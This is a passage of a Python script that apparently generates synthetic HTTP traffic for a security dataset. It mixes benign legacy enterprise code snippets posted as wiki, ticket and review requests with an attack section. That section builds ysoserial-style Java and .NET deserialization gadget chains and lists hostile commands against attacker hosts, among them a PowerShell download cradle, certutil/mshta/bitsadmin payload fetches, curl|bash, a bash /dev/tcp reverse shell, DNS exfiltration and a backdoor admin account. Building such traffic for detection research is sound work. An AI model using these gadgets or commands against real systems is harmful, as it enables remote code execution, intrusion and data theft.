net use Z: /delete /y'''),
    ("powershell", r'''Import-Module ActiveDirectory
Get-ADUser -Filter {Department -eq "Finance" -and Enabled -eq $true} -Properties mail, manager |
    Select-Object SamAccountName, Name, mail, @{n='Manager';e={(Get-ADUser $_.manager).Name}} |
    Export-Csv -Path "\\fs01\reports\finance_users.csv" -NoTypeInformation -Encoding UTF8'''),
    ("webconfig", r'''<system.web>
  <compilation debug="false" targetFramework="4.5.2" />
  <httpRuntime targetFramework="4.5.2" requestValidationMode="4.5" maxRequestLength="20480" />
  <pages enableViewStateMac="true" viewStateEncryptionMode="Always" />
  <machineKey validation="HMACSHA256" decryption="AES" validationKey="AutoGenerate,IsolateApps" decryptionKey="AutoGenerate,IsolateApps" />
  <customErrors mode="RemoteOnly" defaultRedirect="~/Error.aspx" />
</system.web>'''),
    ("struts-xml", r'''<struts>
  <constant name="struts.enable.DynamicMethodInvocation" value="false" />
  <constant name="struts.devMode" value="false" />
  <package name="hr" namespace="/hr" extends="struts-default">
    <action name="employee/*" class="com.corp.hr.EmployeeAction" method="{1}">
      <result name="success">/WEB-INF/jsp/employee/{1}.jsp</result>
      <result name="input">/WEB-INF/jsp/employee/edit.jsp</result>
    </action>
  </package>
</struts>'''),
    ("tsql", r'''CREATE PROCEDURE dbo.usp_GetOpenInvoices
    @VendorId INT,
    @FromDate DATE = NULL
AS
BEGIN
    SET NOCOUNT ON;
    SELECT i.InvoiceNo, i.DueDate, i.Amount, v.VendorName
    FROM dbo.Invoices i
    INNER JOIN dbo.Vendors v ON v.VendorId = i.VendorId
    WHERE i.VendorId = @VendorId
      AND i.Status = 'OPEN'
      AND (@FromDate IS NULL OR i.InvoiceDate >= @FromDate)
    ORDER BY i.DueDate;
END
GO'''),
    ("javascript", r'''function __doPostBack(eventTarget, eventArgument) {
    if (!theForm.onsubmit || (theForm.onsubmit() != false)) {
        theForm.__EVENTTARGET.value = eventTarget;
        theForm.__EVENTARGUMENT.value = eventArgument;
        theForm.submit();
    }
}
// our grid calls it like this:
// <a href="javascript:__doPostBack('ctl00$MainContent$GridView1','Page$2')">2</a>'''),
    ("perl", r'''#!/usr/bin/perl -T
use strict;
use warnings;
use CGI qw(:standard);

my $id = param('id') // '';
die "bad id" unless $id =~ /^(\d{1,6})$/;
$id = $1;
open(my $fh, '<', "/srv/reports/report_$id.txt") or die "cannot open: $!";
print header('text/plain'), <$fh>;
close($fh);'''),
    ("log4j", r'''log4j.rootLogger=INFO, FILE
log4j.appender.FILE=org.apache.log4j.DailyRollingFileAppender
log4j.appender.FILE.File=${catalina.base}/logs/hrportal.log
log4j.appender.FILE.DatePattern='.'yyyy-MM-dd
log4j.appender.FILE.layout=org.apache.log4j.PatternLayout
log4j.appender.FILE.layout.ConversionPattern=%d{ISO8601} %-5p [%t] %c{1} - %m%n
log4j.logger.org.apache.struts2=WARN'''),
    ("sqlplus", r'''SET LINESIZE 200 PAGESIZE 50000 FEEDBACK OFF
SPOOL /tmp/headcount_by_dept.csv
SELECT d.department_name || ';' || COUNT(e.employee_id)
  FROM departments d LEFT JOIN employees e ON e.department_id = d.department_id
 GROUP BY d.department_name
UNION ALL
SELECT 'TOTAL;' || COUNT(*) FROM employees;
SPOOL OFF'''),
    ("ldap-csharp", r'''using (var searcher = new DirectorySearcher(new DirectoryEntry("LDAP://DC=corp,DC=local")))
{
    searcher.Filter = "(&(objectCategory=person)(objectClass=user)(sAMAccountName=" + EscapeLdap(login) + "))";
    searcher.PropertiesToLoad.Add("mail");
    searcher.PropertiesToLoad.Add("memberOf");
    var result = searcher.FindOne();
}'''),
    ("vba", r'''Sub ExportTimesheets()
    Dim ws As Worksheet
    Set ws = ThisWorkbook.Sheets("Week")
    ws.Range("A1:F200").Copy
    Workbooks.Add
    ActiveSheet.Paste
    ActiveWorkbook.SaveAs Filename:="\\fs01\timesheets\" & Format(Date, "yyyy-mm-dd") & ".xls", FileFormat:=xlExcel8
    ActiveWorkbook.Close SaveChanges:=False
End Sub'''),
    ("jcl", r'''//PAYNIGHT JOB (ACCT01),'NIGHTLY PAYROLL',CLASS=A,MSGCLASS=X,NOTIFY=&SYSUID
//STEP01   EXEC PGM=PAYCALC,PARM='2019,03'
//STEPLIB  DD DSN=PROD.PAYROLL.LOADLIB,DISP=SHR
//EMPIN    DD DSN=PROD.PAYROLL.EMPMAST,DISP=SHR
//PAYOUT   DD DSN=PROD.PAYROLL.OUT(+1),DISP=(NEW,CATLG,DELETE),
//            SPACE=(CYL,(10,5),RLSE)
//SYSOUT   DD SYSOUT=*'''),
    ("crystal", r'''// Crystal Reports record selection formula
{Orders.OrderDate} in {?StartDate} to {?EndDate}
and {Customer.Country} = {?Country}
and not ({Orders.Status} in ["CANCELLED", "ON HOLD"])

// Formula @AmountBand
If {Orders.Amount} > 10000 Then "Large" Else If {Orders.Amount} > 1000 Then "Medium" Else "Small"'''),
    ("shell", r'''#!/bin/sh
# weekly cleanup on the old Solaris report box
find /var/reports/tmp -type f -mtime +30 -exec rm -f {} \;
tar cf - /var/reports/archive | gzip -9 > /backup/reports_`date +%Y%m%d`.tar.gz
/usr/bin/mailx -s "reports backup done" ops@corp.local < /dev/null'''),
    ("appcmd", r'''%windir%\system32\inetsrv\appcmd set config "Default Web Site/HR" -section:system.webServer/security/requestFiltering /requestLimits.maxQueryString:8192 /commit:apphost
%windir%\system32\inetsrv\appcmd set apppool "HRPool" /processModel.identityType:SpecificUser /processModel.userName:CORP\svc_hr
%windir%\system32\inetsrv\appcmd recycle apppool /apppool.name:"HRPool"'''),
    ("sharepoint-ps", r'''Add-PSSnapin Microsoft.SharePoint.PowerShell -ErrorAction SilentlyContinue
$web = Get-SPWeb "https://sp2013.corp.local/sites/hr"
$list = $web.Lists["Leave Requests"]
$query = New-Object Microsoft.SharePoint.SPQuery
$query.Query = "<Where><Eq><FieldRef Name='Status'/><Value Type='Text'>Pending</Value></Eq></Where>"
$list.GetItems($query) | ForEach-Object { Write-Host $_["Title"] $_["Created"] }
$web.Dispose()'''),
    ("jdbc", r'''String sql = "SELECT ename, sal FROM emp WHERE deptno = ? AND job = ?";
try (Connection c = ds.getConnection();
     PreparedStatement ps = c.prepareStatement(sql)) {
    ps.setInt(1, deptNo);
    ps.setString(2, job);
    try (ResultSet rs = ps.executeQuery()) {
        while (rs.next()) {
            out.add(new Emp(rs.getString("ename"), rs.getBigDecimal("sal")));
        }
    }
}'''),
    ("xslt", r'''<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
  <xsl:output method="html" encoding="UTF-8"/>
  <xsl:template match="/Payslip">
    <table border="1">
      <tr><th>Item</th><th>Amount</th></tr>
      <xsl:for-each select="Line">
        <tr><td><xsl:value-of select="@label"/></td><td><xsl:value-of select="format-number(@amount, '#,##0.00')"/></td></tr>
      </xsl:for-each>
    </table>
  </xsl:template>
</xsl:stylesheet>'''),
    ("apex-plsql", r'''BEGIN
  apex_util.set_session_state('P2_STATUS', 'APPROVED');
  UPDATE leave_requests
     SET status = 'APPROVED', approved_by = :APP_USER, approved_on = SYSDATE
   WHERE request_id = :P2_REQUEST_ID;
  apex_application.g_print_success_message := 'Request approved.';
END;'''),
    ("vb6", r'''Private Sub cmdSave_Click()
    Dim cn As New ADODB.Connection
    Dim cmd As New ADODB.Command
    cn.Open "Provider=SQLOLEDB;Data Source=SQL01;Initial Catalog=HR;Integrated Security=SSPI"
    Set cmd.ActiveConnection = cn
    cmd.CommandText = "UPDATE Employees SET Phone = ? WHERE EmployeeId = ?"
    cmd.Parameters.Append cmd.CreateParameter("p1", adVarChar, adParamInput, 30, txtPhone.Text)
    cmd.Parameters.Append cmd.CreateParameter("p2", adInteger, adParamInput, , CLng(lblId.Caption))
    cmd.Execute
End Sub'''),
    ("html-mail", r'''<table width="600" cellpadding="0" cellspacing="0" style="font-family:Arial,sans-serif;font-size:13px">
  <tr><td style="background:#003366;color:#ffffff;padding:8px"><b>Payroll notice</b></td></tr>
  <tr><td style="padding:8px">Dear {FirstName},<br/>your payslip for {Period} is available in
  <a href="https://payroll.corp.local/Payroll/Payslip.ashx?period={Period}">the HR portal</a>.</td></tr>
</table>'''),
    ("httpd", r'''RewriteEngine On
RewriteCond %{HTTPS} off
RewriteRule ^/(.*)$ https://%{HTTP_HOST}/$1 [R=301,L]
RewriteRule ^/legacy/(.*)\.asp$ /app/$1.jsp [PT]
<Location /cgi-bin/>
    Options +ExecCGI
    Require ip 10.0.0.0/8
</Location>'''),
]


def gen_dev_content(n=50):
    r = rng_for("dev_content")
    titles = ["Snippet: {l}", "How we do it in {l}", "Code review: {l} change", "Runbook step ({l})",
              "Question about {l}", "FYI - {l} example for the new starters"]
    for i in range(n):
        lang, code = SNIPPETS[i % len(SNIPPETS)]
        host = r.choice(["wiki.corp.local", "helpdesk.corp.local", "review.corp.local", "intranet.corp.local"])
        title = r.choice(titles).replace("{l}", lang)
        k = (i + i // len(SNIPPETS)) % 5
        if k == 0:
            # MediaWiki edit
            text = "== %s ==\n%s:\n<syntaxhighlight lang=\"%s\">\n%s\n</syntaxhighlight>\n[[Category:Legacy apps]]" % (
                title, r.choice(["Example from the HR portal", "Current production version", "Do not copy the old variant"]), lang, code)
            body = form([("wpAntispam", ""), ("wpSection", ""), ("wpStarttime", "2019%010d" % r.randint(0, 10 ** 9)),
                         ("wpEdittime", "2019%010d" % r.randint(0, 10 ** 9)), ("wpScrolltop", "0"), ("wpTextbox1", text),
                         ("wpSummary", "add " + lang + " example"), ("wpSave", "Save page"), ("wpEditToken", rhex(r, 32) + "+\\")])
            add("dev-content", "wiki_edit", "POST", "/wiki/index.php?title=%s&action=submit" % quote(title.replace(" ", "_")),
                browser(r, host, ctype="application/x-www-form-urlencoded", cookie="wikidb_session=" + rhex(r, 32)), body)
        elif k == 1:
            # Confluence editor (storage format, code escaped as HTML)
            html = "<p>%s</p><ac:structured-macro ac:name=\"code\"><ac:parameter ac:name=\"language\">%s</ac:parameter><ac:plain-text-body><![CDATA[%s]]></ac:plain-text-body></ac:structured-macro>" % (
                xesc(title), lang, code)
            body = form([("atl_token", rhex(r, 40)), ("fromPageId", str(r.randint(10 ** 6, 10 ** 8))), ("spaceKey", r.choice(["HRIT", "OPS", "DEV"])),
                         ("title", title), ("wysiwygContent", html), ("confirm", "Save"), ("parentPageString", "Legacy apps"),
                         ("moveHierarchy", "true"), ("position", ""), ("targetId", ""), ("draftId", "0"), ("entityId", ""), ("newSpaceKey", "")])
            add("dev-content", "wiki_edit", "POST", "/pages/doeditpage.action?pageId=%d" % r.randint(10 ** 6, 10 ** 8),
                browser(r, host, ctype="application/x-www-form-urlencoded", cookie="JSESSIONID=" + jsessionid(r) + "; seraph.confluence=" + str(r.randint(10 ** 7, 10 ** 8))), body)
        elif k == 2:
            # helpdesk ticket (WebForms)
            pairs = [("__EVENTTARGET", ""), ("__EVENTARGUMENT", "")] + wf_common(r, size_kb=r.choice([4, 8])) + [
                ("ctl00$MainContent$txtSubject", title), ("ctl00$MainContent$ddlCategory", r.choice(["Application", "Database", "Development"])),
                ("ctl00$MainContent$txtDescription", "Hi team,\r\n\r\nthe following started failing after the patch weekend:\r\n\r\n" + code.replace("\n", "\r\n") + "\r\n\r\nThanks"),
                ("ctl00$MainContent$btnCreate", "Create ticket")]
            add("dev-content", "helpdesk_ticket", "POST", "/Helpdesk/NewTicket.aspx",
                browser(r, host, ctype="application/x-www-form-urlencoded", cookie=aspnet_session(r) + "; " + aspxauth(r)), form(pairs))
        elif k == 3:
            # code-review comment (JSON)
            body = json.dumps({"path": r.choice(["src/Web/HR/EmployeeList.aspx.vb", "WebContent/WEB-INF/struts.xml", "db/procs/%s.sql" % lang, "cf/components/Orders.cfc"]),
                               "line": r.randint(1, 400), "message": "Suggested change:\n```%s\n%s\n```" % (lang, code), "unresolved": True})
            add("dev-content", "code_review", "POST", "/a/changes/%d/revisions/%d/drafts" % (r.randint(1000, 99999), r.randint(1, 6)),
                browser(r, host, accept="application/json", ctype="application/json; charset=UTF-8", xhr=True,
                        cookie="GerritAccount=" + ralnum(r, 34, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789")), body)
        else:
            # attachment uploaded to a ticket (text file in multipart)
            bd = webkit_boundary(r)
            ext = {"vbnet": "vb", "csharp": "cs", "classic-asp": "asp", "java-struts": "java", "jsp": "jsp", "coldfusion": "cfm",
                   "plsql": "sql", "abap": "abap", "batch": "bat", "powershell": "ps1", "webconfig": "config", "struts-xml": "xml",
                   "tsql": "sql", "javascript": "js", "perl": "pl", "log4j": "properties", "sqlplus": "sql", "ldap-csharp": "cs",
                   "vba": "bas", "jcl": "jcl", "crystal": "txt", "shell": "sh", "appcmd": "cmd", "sharepoint-ps": "ps1",
                   "jdbc": "java", "xslt": "xsl", "apex-plsql": "sql", "vb6": "frm", "html-mail": "html", "httpd": "conf"}.get(lang, "txt")
            parts = [("issue[notes]", "Attached the current %s version, see line %d." % (lang, r.randint(3, 40)), None, None),
                     ("attachments[1][file]", code.replace("\n", "\r\n"), "snippet_%d.%s" % (r.randint(1, 99), ext), "text/plain"),
                     ("attachments[1][description]", title, None, None), ("authenticity_token", b64(rbytes(r, 32))), ]
            parts = [p if len(p) == 4 else (p[0], p[1], None, None) for p in parts]
            body = multipart(parts, bd).decode("utf-8")
            add("dev-content", "ticket_attachment", "POST", "/issues/%d" % r.randint(1000, 40000),
                browser(r, host, ctype="multipart/form-data; boundary=" + bd, cookie="_redmine_session=" + b64(rbytes(r, 60))), body)


# ===========================================================================
# ATTACKS
# ===========================================================================
# gadget builders: byte layouts shaped like ysoserial / ysoserial.net output
# (class names, field names, embedded commands) - not necessarily loadable.

ATTACKER_HOSTS = ["203.0.113.47", "198.51.100.23", "45.77.12.9", "x7k2p.oastify.com",
                  "cdn-update.example.net", "185.220.101.34", "a9f3.interact.sh"]


def _jstr(s):
    b = s.encode("utf-8")
    return b"\x74" + struct.pack(">H", len(b)) + b


def _jclass(name, suid, fields=()):
    out = b"\x72" + struct.pack(">H", len(name)) + name.encode() + struct.pack(">q", suid) + b"\x02" + struct.pack(">H", len(fields))
    for tc, fname, ftype in fields:
        out += tc.encode() + struct.pack(">H", len(fname)) + fname.encode()
        if ftype:
            out += _jstr(ftype)
    return out + b"\x78"


def _jobj(name, suid, fields, values=b""):
    return b"\x73" + _jclass(name, suid, fields) + b"\x70" + values


def _invoker(method, ptypes, args):
    vals = _jstr(method) + b"\x75\x72\x00\x12[Ljava.lang.Class;\xab\x16\xd7\xae\xcb\xcdZ\x99\x02\x00\x00xp" + \
        struct.pack(">I", len(ptypes)) + b"".join(b"\x76r\x00" + bytes([len(t)]) + t.encode() + b"\x00" * 8 + b"\x00\x00\x00xp" for t in ptypes) + \
        b"ur\x00\x13[Ljava.lang.Object;\x90\xceX\x9f\x10s)l\x02\x00\x00xp" + struct.pack(">I", len(args)) + \
        b"".join(_jstr(a) if isinstance(a, str) else a for a in args)
    return _jobj("org.apache.commons.collections.functors.InvokerTransformer", -8653385846894047688,
                 [("[", "iArgs", "[Ljava/lang/Object;"), ("L", "iMethodName", "Ljava/lang/String;"),
                  ("[", "iParamTypes", "[Ljava/lang/Class;")], vals)


def _cc_chain(cmd):
    chain = _jobj("org.apache.commons.collections.functors.ConstantTransformer", 6374440726369055124,
                  [("L", "iConstant", "Ljava/lang/Object;")], b"vr\x00\x11java.lang.Runtime" + b"\x00" * 8 + b"\x00\x00\x00xp")
    chain += _invoker("getMethod", ["java.lang.String", "[Ljava.lang.Class;"], ["getRuntime", b"ur\x00\x12[Ljava.lang.Class;\x00\x00\x00\x00"])
    chain += _invoker("invoke", ["java.lang.Object", "[Ljava.lang.Object;"], [b"\x70", b"ur\x00\x13[Ljava.lang.Object;\x00\x00\x00\x00"])
    chain += _invoker("exec", ["java.lang.String"], [cmd])
    return _jobj("org.apache.commons.collections.functors.ChainedTransformer", 3514945074733160196,
                 [("[", "iTransformers", "[Lorg/apache/commons/collections/Transformer;")],
                 b"ur\x00-[Lorg.apache.commons.collections.Transformer;\xbdV*\xf1\xd84\x18\x99\x02\x00\x00xp\x00\x00\x00\x05" + chain)


def _templates(cmd):
    cls = (b"\xca\xfe\xba\xbe\x00\x00\x00\x32\x00\x39\x0a\x00\x03\x00\x22\x07\x00\x37\x07\x00\x25"
           b"\x01\x00\x10serialVersionUID\x01\x00\x01J\x01\x00\x0dConstantValue"
           b"\x01\x00\x13ysoserial/Pwner" + str(random.Random(cmd).randint(10 ** 12, 10 ** 13)).encode() +
           b"\x01\x00@com/sun/org/apache/xalan/internal/xsltc/runtime/AbstractTranslet"
           b"\x01\x00\x11java/lang/Runtime\x01\x00\x0agetRuntime\x01\x00\x15()Ljava/lang/Runtime;"
           b"\x01\x00\x04exec\x01\x00'(Ljava/lang/String;)Ljava/lang/Process;\x01" + struct.pack(">H", len(cmd)) + cmd.encode() +
           b"\x00\x21\x00\x02\x00\x03\x00\x01\x00\x04")
    return _jobj("com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl", 673094361519270707,
                 [("I", "_indentNumber", None), ("I", "_transletIndex", None), ("[", "_bytecodes", "[[B"),
                  ("[", "_class", "[Ljava/lang/Class;"), ("L", "_name", "Ljava/lang/String;"),
                  ("L", "_outputProperties", "Ljava/util/Properties;")],
                 b"\x00\x00\x00\x00\xff\xff\xff\xffur\x00\x03[[BK\xfd\x19\x15gg\xdb7\x02\x00\x00xp\x00\x00\x00\x02ur\x00\x02[B\xac\xf3\x17\xf8\x06\x08T\xe0\x02\x00\x00xp" +
                 struct.pack(">I", len(cls)) + cls + _jstr("Pwnr") + b"pw\x01\x00x")


def java_gadget(chain, cmd):
    h = b"\xac\xed\x00\x05"
    if chain == "CommonsCollections5":
        lazy = _jobj("org.apache.commons.collections.map.LazyMap", 7990956402564206740,
                     [("L", "factory", "Lorg/apache/commons/collections/Transformer;")], _cc_chain(cmd))
        tied = _jobj("org.apache.commons.collections.keyvalue.TiedMapEntry", -8453869361373831205,
                     [("L", "key", "Ljava/lang/Object;"), ("L", "map", "Ljava/util/Map;")], _jstr("foo") + lazy)
        return h + _jobj("javax.management.BadAttributeValueExpException", -3105272988410493376,
                         [("L", "val", "Ljava/lang/Object;")], tied)
    if chain == "CommonsCollections6":
        lazy = _jobj("org.apache.commons.collections.map.LazyMap", 7990956402564206740,
                     [("L", "factory", "Lorg/apache/commons/collections/Transformer;")], _cc_chain(cmd))
        tied = _jobj("org.apache.commons.collections.keyvalue.TiedMapEntry", -8453869361373831205,
                     [("L", "key", "Ljava/lang/Object;"), ("L", "map", "Ljava/util/Map;")], _jstr("foo") + lazy)
        return h + _jobj("java.util.HashSet", -5024744406713321676, [], b"w\x0c\x00\x00\x00\x02?@\x00\x00\x00\x00\x00\x01" + tied + b"x")
    if chain == "CommonsCollections1":
        return h + _jobj("sun.reflect.annotation.AnnotationInvocationHandler", 6182022883658399397,
                         [("L", "memberValues", "Ljava/util/Map;"), ("L", "type", "Ljava/lang/Class;")],
                         b"s}\x00\x00\x00\x01\x00\x0djava.util.Mapxr\x00\x17java.lang.reflect.Proxy\xe1'\xda \xcc\x10C\xcb\x02\x00\x01L\x00\x01ht\x00%Ljava/lang/reflect/InvocationHandler;xp" +
                         _jobj("org.apache.commons.collections.map.LazyMap", 7990956402564206740,
                               [("L", "factory", "Lorg/apache/commons/collections/Transformer;")], _cc_chain(cmd)) +
                         b"vr\x00\x12java.lang.Override" + b"\x00" * 8 + b"\x00\x00\x00xp")
    if chain == "CommonsBeanutils1":
        cmp = _jobj("org.apache.commons.beanutils.BeanComparator", -2044202215314119608,
                    [("L", "comparator", "Ljava/util/Comparator;"), ("L", "property", "Ljava/lang/String;")],
                    _jobj("java.lang.String$CaseInsensitiveComparator", 8575799808933029326, []) + _jstr("outputProperties"))
        return h + _jobj("java.util.PriorityQueue", -7720805057305804111,
                         [("I", "size", None), ("L", "comparator", "Ljava/util/Comparator;")],
                         b"\x00\x00\x00\x02" + cmp + b"w\x04\x00\x00\x00\x03" + _templates(cmd) + b"q\x00~\x00\x0dx")
    if chain == "Jdk7u21":
        return h + _jobj("java.util.LinkedHashSet", -2851667679971038690, [],
                         b"w\x0c\x00\x00\x00\x10?@\x00\x00\x00\x00\x00\x02" + _templates(cmd) +
                         b"sr\x00}sun.reflect.annotation.AnnotationInvocationHandler" + _jstr("f5a5a608") + b"x")
    if chain == "Spring1":
        return h + _jobj("org.springframework.core.SerializableTypeWrapper$MethodInvokeTypeProvider", 1,
                         [("I", "index", None), ("L", "methodName", "Ljava/lang/String;"),
                          ("L", "provider", "Lorg/springframework/core/SerializableTypeWrapper$TypeProvider;")],
                         b"\x00\x00\x00\x00" + _jstr("newTransformer") +
                         b"sr\x00Corg.springframework.beans.factory.support.AutowireUtils$ObjectFactoryDelegatingInvocationHandler" +
                         _templates(cmd))
    if chain == "ROME":
        return h + _jobj("com.sun.syndication.feed.impl.ObjectBean", 1,
                         [("L", "_equalsBean", "Lcom/sun/syndication/feed/impl/EqualsBean;"),
                          ("L", "_toStringBean", "Lcom/sun/syndication/feed/impl/ToStringBean;")],
                         b"sr\x00(com.sun.syndication.feed.impl.ToStringBean" + _templates(cmd))
    if chain == "URLDNS":
        return h + _jobj("java.util.HashMap", 362498820763181265, [("F", "loadFactor", None), ("I", "threshold", None)],
                         b"?@\x00\x00\x00\x00\x00\x0cw\x08\x00\x00\x00\x10\x00\x00\x00\x01" +
                         _jobj("java.net.URL", -7627629688361524110,
                               [("I", "hashCode", None), ("I", "port", None), ("L", "authority", "Ljava/lang/String;"),
                                ("L", "file", "Ljava/lang/String;"), ("L", "host", "Ljava/lang/String;"),
                                ("L", "protocol", "Ljava/lang/String;"), ("L", "ref", "Ljava/lang/String;")],
                               b"\xff\xff\xff\xff\xff\xff\xff\xff" + _jstr(cmd) + _jstr("") + _jstr(cmd) + _jstr("http") + b"px") +
                         _jstr("http://" + cmd) + b"x")
    if chain == "JRMPClient":
        host, port = cmd.split(":")
        return h + b"sr\x00.java.rmi.server.RemoteObjectInvocationHandler" + b"\x00" * 8 + b"\x02\x00\x00xr\x00\x1cjava.rmi.server.RemoteObject\xd3a\xb4\x91\x0ca3\x1e\x03\x00\x00xpw7\x00\x0aUnicastRef" + \
            struct.pack(">H", len(host)) + host.encode() + struct.pack(">I", int(port)) + b"\x00" * 22 + b"x"
    raise ValueError(chain)


def _bf_lib(i, name):
    return b"\x0c" + struct.pack("<I", i) + _lenpref(name.encode())


def _bf_class(i, name, members, lib=2):
    out = b"\x05" + struct.pack("<I", i) + _lenpref(name.encode()) + struct.pack("<I", len(members))
    for m in members:
        out += _lenpref(m.encode())
    out += b"\x01" * len(members) + struct.pack("<I", lib)
    return out


def _bf_str(i, s):
    return b"\x06" + struct.pack("<I", i) + _lenpref(s.encode("utf-8"))


MSCORLIB = "mscorlib, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089"
SYSTEM = "System, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089"


def odp_xaml(cmd, args):
    return ('<?xml version="1.0" encoding="utf-16"?>\r\n<ObjectDataProvider MethodName="Start" IsInitialLoadEnabled="False" '
            'xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:sd="clr-namespace:System.Diagnostics;assembly=System" '
            'xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml">\r\n  <ObjectDataProvider.ObjectInstance>\r\n    <sd:Process>\r\n'
            '      <sd:Process.StartInfo>\r\n        <sd:ProcessStartInfo Arguments="%s" StandardErrorEncoding="{x:Null}" '
            'StandardOutputEncoding="{x:Null}" UserName="" Password="{x:Null}" Domain="" LoadUserProfile="False" FileName="%s" />\r\n'
            '      </sd:Process.StartInfo>\r\n    </sd:Process>\r\n  </ObjectDataProvider.ObjectInstance>\r\n</ObjectDataProvider>') % (xesc(args), cmd)


def dotnet_gadget(gadget, cmd):
    hdr = b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00"
    if gadget == "TypeConfuseDelegate":
        s = "System.String, " + MSCORLIB
        body = _bf_lib(2, SYSTEM)
        body += _bf_class(1, "System.Collections.Generic.SortedSet`1[[%s]]" % s, ["Count", "Comparer", "Version", "Items"])
        body += _bf_class(3, "System.Collections.Generic.ComparisonComparer`1[[%s]]" % s, ["_comparison"])
        body += _bf_class(4, "System.DelegateSerializationHolder", ["Delegate", "method0", "method1"], lib=0)
        body += _bf_class(5, "System.DelegateSerializationHolder+DelegateEntry",
                          ["type", "assembly", "target", "targetTypeAssembly", "targetTypeName", "methodName", "delegateEntry"], lib=0)
        body += _bf_str(6, "System.Func`3[[%s],[%s],[System.Diagnostics.Process, %s]]" % (s, s, SYSTEM))
        body += _bf_str(7, MSCORLIB) + _bf_str(8, SYSTEM) + _bf_str(9, "System.Diagnostics.Process") + _bf_str(10, "Start")
        body += _bf_class(11, "System.Reflection.MemberInfoSerializationHolder",
                          ["Name", "AssemblyName", "ClassName", "Signature", "Signature2", "MemberType", "GenericArguments"], lib=0)
        body += _bf_str(12, "System.Diagnostics.Process Start(System.String, System.String)")
        body += _bf_str(13, "System.Diagnostics.Process Start(System.String, System.String)")
        body += _bf_str(14, "Compare") + _bf_str(15, "System.String") + _bf_str(16, "Int32 Compare(System.String, System.String)")
        body += b"\x11\x11\x00\x00\x00\x02\x00\x00\x00" + _bf_str(17, "/c " + cmd) + _bf_str(18, "cmd") + b"\x0b"
        return hdr + body
    if gadget == "TextFormattingRunProperties":
        body = _bf_lib(2, "Microsoft.PowerShell.Editor, Version=3.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35")
        body += _bf_class(1, "Microsoft.VisualStudio.Text.Formatting.TextFormattingRunProperties", ["ForegroundBrush"])
        body += _bf_str(3, odp_xaml("cmd", "/c " + cmd)) + b"\x0b"
        return hdr + body
    if gadget in ("WindowsIdentity", "ClaimsPrincipal", "RolePrincipal"):
        inner = b64(dotnet_gadget("TypeConfuseDelegate", cmd))
        cls, member = {"WindowsIdentity": ("System.Security.Principal.WindowsIdentity", "System.Security.ClaimsIdentity.actor"),
                       "ClaimsPrincipal": ("System.Security.Claims.ClaimsPrincipal", "m_serializedClaimsIdentities"),
                       "RolePrincipal": ("System.Web.Security.RolePrincipal", "System.Security.ClaimsPrincipal.Identities")}[gadget]
        body = _bf_class(1, cls, [member], lib=0) + _bf_str(2, inner) + b"\x0b"
        return hdr + body
    if gadget == "PSObject":
        clixml = ('<Objs Version="1.1.0.1" xmlns="http://schemas.microsoft.com/powershell/2004/04"><Obj RefId="0"><TN RefId="0">'
                  '<T>Microsoft.Management.Infrastructure.CimInstance#System.Management.Automation/RunspaceInvoke5</T>'
                  '<T>Microsoft.Management.Infrastructure.CimInstance#RunspaceInvoke5</T><T>Microsoft.Management.Infrastructure.CimInstance</T>'
                  '<T>System.Object</T></TN><ToString>RunspaceInvoke5</ToString><Obj RefId="1"><TNRef RefId="0" /><ToString>RunspaceInvoke5</ToString>'
                  '<Props><S N="test1">%s</S></Props><MS><Obj N="__ClassMetadata" RefId="2"><TN RefId="1"><T>System.Collections.ArrayList</T>'
                  '<T>System.Object</T></TN><LST><Obj RefId="3"><MS><S N="ClassName">RunspaceInvoke5</S><S N="Namespace">'
                  'System.Management.Automation</S><S N="ServerName">.</S><I32 N="Hash">460929192</I32><S N="MiXml"> '
                  '&lt;CLASS NAME="RunspaceInvoke5"&gt;&lt;PROPERTY NAME="test1" TYPE ="string"&gt;&lt;/PROPERTY&gt;&lt;/CLASS&gt;</S></MS></Obj></LST>'
                  '</Obj></MS></Obj><MS><S N="x">%s</S></MS></Obj></Objs>') % (xesc(odp_xaml("cmd", "/c " + cmd)), xesc(cmd))
        body = _bf_lib(2, "System.Management.Automation, Version=3.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35")
        body += _bf_class(1, "System.Management.Automation.PSObject", ["CliXml"]) + _bf_str(3, clixml) + b"\x0b"
        return hdr + body
    raise ValueError(gadget)


def osf_viewstate(gadget, cmd, r, mac=True):
    """LosFormatter/ObjectStateFormatter wrapper: 0xFF 0x01 0x32 <len> BinaryFormatter [+ MAC]."""
    bf = dotnet_gadget(gadget, cmd)
    return b64(b"\xff\x01\x32" + _lenpref(bf) + (rbytes(r, 20) if mac else b""))


WIN_CMDS = [
    "powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA0ADcALwBhACcAKQA=",
    "certutil -urlcache -split -f http://203.0.113.47/s.exe C:\\Windows\\Temp\\s.exe && C:\\Windows\\Temp\\s.exe",
    "echo PD9YTUwgdmVyc2lvbj0iMS4wIj8+ > C:\\inetpub\\wwwroot\\aspnet_client\\x.txt",
    "whoami /all > C:\\inetpub\\wwwroot\\aspnet_client\\w.txt",
    "nslookup %USERNAME%.x7k2p.oastify.com",
    "mshta http://198.51.100.23/a.hta",
    "net user support_388945a0 Passw0rd!23 /add && net localgroup administrators support_388945a0 /add",
    "bitsadmin /transfer j /download /priority high http://45.77.12.9/b.ps1 C:\\Users\\Public\\b.ps1",
]
NIX_CMDS = ["id", "uname -a", "cat /etc/passwd", "wget -qO- http://203.0.113.47/x.sh|sh",
            "curl -s http://198.51.100.23:8080/k | bash", "nslookup `whoami`.x7k2p.oastify.com",
            "bash -i >& /dev/tcp/185.220.101.34/4444 0>&1", "touch /tmp/pwned"]


def enc_java(raw, how):
    if how == "b64":
        return b64(raw)
    if how == "gzip":
